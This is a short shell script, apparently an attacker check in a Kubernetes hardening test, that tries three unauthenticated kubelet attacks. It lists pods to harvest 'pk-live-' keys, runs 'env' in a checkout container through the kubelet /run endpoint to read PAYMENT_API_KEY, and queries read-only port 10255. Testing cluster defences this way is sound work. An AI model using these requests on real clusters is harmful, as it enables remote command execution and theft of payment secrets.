# The intruder: on the network, without any credential. It tries each way on its own,
# so that closing one of them does not hide the others. Exit 0: at least one worked.
kubelet="https://$NODE_ADDRESS:$KUBELET_PORT"
won=no

echo "asking the kubelet for its pods:"
if curl -sSfk "$kubelet/pods" | grep -o 'pk-live-[0-9a-f]*'; then
  won=yes
fi

echo "running a command in checkout-0:"
if curl -sSfk -X POST "$kubelet/run/shop/checkout-0/app?cmd=env" | grep PAYMENT_API_KEY; then
  won=yes
fi

echo "asking the read-only port:"
if curl -sSf "http://$NODE_ADDRESS:10255/pods" | grep -o 'pk-live-[0-9a-f]*'; then
  won=yes
fi

[ "$won" = yes ]
